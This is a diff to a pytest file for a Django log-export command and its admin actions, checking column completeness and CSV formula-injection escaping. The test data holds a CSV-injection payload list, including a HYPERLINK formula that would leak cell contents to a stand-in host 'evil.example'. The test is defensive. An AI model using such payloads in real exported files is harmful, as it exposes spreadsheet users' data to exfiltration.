@@ -8,6 +8,7 @@ from datetime import datetime, timezone
 import pytest
 from django.core.management import CommandError, call_command
 
+from logs.models import BinaryFile, Request, Response
 from logs.outcomes import Outcome
 from tests.logs.factory import PNG, exchange_make, file_attach, streamed_chat
 
@@ -18,7 +19,7 @@ TRICKY = 'line one, with "quotes"\nline two;\ttab, =SUM(A1)'
 def _export(tmp_path, *args) -> str:
     out = tmp_path / "out"
     call_command("export_logs", "--output", str(out), *args)
-    return out.read_text("utf-8")
+    return out.read_bytes().decode("utf-8")  # as written: CR inside a CSV cell stays CR
 
 
 @pytest.fixture
@@ -43,7 +44,8 @@ def test_jsonl_round_trip(tmp_path, log):
     assert chat["response"]["input_tokens"] == 5 and chat["response"]["status_code"] == 200
     assert chat["files"] == [{"id": log["img"].pk.hex, "role": "response_image", "file_path": log["img"].file.name,
                               "content_type": "image/png", "size": len(PNG), "sha256": "", "field_name": "",
-                              "filename": "", "response_id": chat["response"]["id"]}]
+                              "filename": "", "response_id": chat["response"]["id"], "request_id": log["chat"].pk.hex,
+                              "created_at": "2025-05-01T12:00:00+00:00"}]
     assert ["Authorization", "Bearer sk-…9f2c"] in chat["request"]["headers"]
     assert records[1]["response"]["stream_result"]["result"]["choices"][0]["finish_reason"] == "tool_calls"
 
@@ -61,7 +63,7 @@ def test_csv_parses_with_bodies_intact(tmp_path, log):
     assert len(rows) == 3
     assert json.loads(rows[0]["response_body"])["choices"][0]["message"]["content"] == TRICKY
     assert rows[0]["request_id"] == log["chat"].pk.hex and rows[0]["status_code"] == "200"
-    assert json.loads(rows[0]["files"]) == [log["img"].file.name]
+    assert [f["file_path"] for f in json.loads(rows[0]["files"])] == [log["img"].file.name]
     assert json.loads(rows[0]["request_headers"])[0] == ["Authorization", "Bearer sk-…9f2c"]
 
 
@@ -124,3 +126,78 @@ def test_key_fingerprint_gateway_key_and_usage_exported(tmp_path):
     row = next(csv.DictReader(io.StringIO(_export(tmp_path, "--format", "csv").lstrip("\ufeff"), newline="")))
     assert (row["key_fingerprint"], row["gateway_key"], row["total_tokens"]) == (
         "1a2b3c4d5e6f", "team-a (fp 0123456789ab)", "120")
+
+
+def _columns(model) -> set[str]:
+    """The table's columns, as the model declares them (a new field shows up here by itself)."""
+    return {f.column for f in model._meta.concrete_fields}
+
+
+def _assert_every_column(record: dict) -> None:
+    """A JSON export record holds every column of the three tables, with the values of the full exchange."""
+    assert set(record["request"]) == _columns(Request)
+    assert set(record["response"]) == _columns(Response)
+    assert [set(f) for f in record["files"]] == [_columns(BinaryFile)]
+    assert (record["response"]["ttft_ms"], record["response"]["usage_injected"]) == (33.5, True)
+    assert record["request"]["instance"] == "worker-7"
+    assert record["response"]["request_id"] == record["files"][0]["request_id"] == record["request"]["id"]
+
+
+def _assert_every_csv_column(text: str) -> None:
+    """A CSV export has a column for every request and response column, and every file column in `files`."""
+    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    header = set(rows[0])
+    for column in _columns(Request):
+        assert column in header or f"request_{column}" in header, column
+    for column in _columns(Response):
+        assert column in header or f"response_{column}" in header, column
+    files = json.loads(rows[0]["files"])
+    assert [set(f) for f in files] == [_columns(BinaryFile)]
+    assert (rows[0]["ttft_ms"], rows[0]["usage_injected"], rows[0]["instance"]) == ("33.5", "True", "worker-7")
+
+
+@pytest.fixture
+def full():
+    """One exchange with every column set: usage injected, TTFT, a worker instance and a file."""
+    chat = exchange_make(tokens=(5, 7), ttft_ms=33.5, usage_injected=True)
+    Request.objects.filter(pk=chat.pk).update(instance="worker-7")
+    file_attach(chat, PNG, "image/png", ".png", filename="cat.png")
+    return chat
+
+
+def test_command_exports_carry_every_column(tmp_path, full):
+    _assert_every_column(json.loads(_export(tmp_path, "--format", "jsonl")))
+    _assert_every_column(json.loads(_export(tmp_path, "--format", "json"))[0])
+    _assert_every_csv_column(_export(tmp_path, "--format", "csv"))
+
+
+def test_admin_export_actions_carry_every_column(admin_client, full):
+    def action(name: str) -> str:
+        r = admin_client.post("/admin/logs/request/", {"action": name, "_selected_action": [full.pk]})
+        assert r.status_code == 200
+        return b"".join(r.streaming_content).decode("utf-8")
+
+    _assert_every_column(json.loads(action("export_jsonl")))
+    _assert_every_csv_column(action("export_csv"))
+
+
+# OWASP's CSV injection list: a cell starting with any of these is run as a formula by spreadsheets.
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_that_spreadsheets_would_run_read_back_as_quoted_text(tmp_path, admin_client, formula):
+    req = exchange_make(body=formula, resp_body=formula, model=formula, endpoint=formula, status=400,
+                        error_message=formula, headers=[["X-Note", formula]])
+    exported = {"export_logs": _export(tmp_path, "--format", "csv")}
+    r = admin_client.post("/admin/logs/request/", {"action": "export_csv", "_selected_action": [req.pk]})
+    exported["admin action"] = b"".join(r.streaming_content).decode("utf-8")
+    for path, text in exported.items():
+        row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        for column in ("request_body", "response_body", "request_model", "response_model", "endpoint",
+                       "error_message"):
+            assert row[column] == "'" + formula, (path, column)
+        assert json.loads(row["request_headers"]) == [["X-Note", formula]]  # JSON text: starts with [
+        assert (row["status_code"], row["request_body_size"]) == ("400", str(len(formula)))  # numbers stay numbers
+    rec = json.loads(_export(tmp_path, "--format", "jsonl"))
+    assert rec["request"]["body"] == rec["response"]["body"] == formula  # only CSV cells are touched
